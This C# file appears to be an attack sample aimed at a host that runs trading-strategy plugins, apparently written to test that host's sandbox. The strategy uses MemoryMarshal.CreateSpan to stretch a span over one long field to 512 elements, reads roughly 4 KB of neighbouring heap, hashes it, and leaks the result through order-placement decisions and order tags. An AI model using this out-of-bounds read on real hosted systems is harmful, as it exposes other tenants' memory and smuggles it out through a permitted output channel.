// Abuses: MemoryMarshal.CreateSpan with a length that is simply believed.
// Harm: a span over one field that covers 4 KB of foreign heap: reads what other slots hold.
// Kind: reads or writes outside.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MemorymarshalBeyondFieldAttack;

public sealed class MemorymarshalBeyondFieldStrategy : Strategy
{
    private long _anchor;

    public override void OnBook(in BookEvent bookEvent)
    {
        Span<long> window = MemoryMarshal.CreateSpan(ref _anchor, 512);
        long hash = 17;
        foreach (long word in window) { hash = hash * 31 + word; }
        Act(hash);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
